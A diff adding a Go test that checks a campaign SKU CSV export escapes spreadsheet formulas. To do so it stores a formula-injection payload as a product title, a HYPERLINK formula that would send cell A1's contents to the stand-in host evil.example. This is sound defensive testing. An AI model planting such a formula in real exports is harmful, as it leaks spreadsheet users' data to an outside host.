@@ -160,6 +160,28 @@ func TestViewDataOfACampaign(t *testing.T) {
 	if sum.StringFixed(2) != "125.00" {
 		t.Errorf("sku csv sales add up to %s", sum)
 	}
+	// Names that a spreadsheet would run as formulas reach it as text.
+	w.db.Exec(`UPDATE products SET title = '=HYPERLINK("http://evil.example/?x="&A1,"x")' WHERE title = 'Desk lamp'`)
+	rec = b.get(fmt.Sprintf("/campaigns/%d/performance/export/skus/csv", w.open.ID))
+	wantStatus(t, rec, http.StatusOK)
+	recs, err = csv.NewReader(rec.Body).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, r := range recs {
+		for _, cell := range r {
+			if strings.Contains(cell, "HYPERLINK") {
+				found = true
+				if !strings.HasPrefix(cell, "'=") {
+					t.Errorf("a formula reaches the spreadsheet live: %q", cell)
+				}
+			}
+		}
+	}
+	if !found {
+		t.Errorf("the renamed product is not in the export: %q", recs)
+	}
 	for _, table := range []string{"days", "subs", "skus"} {
 		rec = b.get(fmt.Sprintf("/campaigns/%d/performance/export/%s/xlsx", w.open.ID, table))
 		wantStatus(t, rec, http.StatusOK)
